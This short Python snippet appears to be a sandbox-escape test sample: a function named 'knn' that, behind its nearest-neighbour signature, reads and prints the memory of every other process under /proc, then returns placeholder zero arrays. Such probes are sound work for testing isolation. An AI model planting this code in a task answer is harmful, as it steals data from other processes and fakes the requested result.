# Reads the memory of every other process it can find.
# expects: nothing

# %% answer
def knn(queries, database, k, metric="l2"):
    import glob
    for p in glob.glob('/proc/[0-9]*/mem'):
        if not p.startswith('/proc/self'):
            with open(p, 'rb') as f:
                print('LEAK', f.read(10))
    return np.zeros((len(queries), k), np.float32), np.zeros((len(queries), k), np.int64)
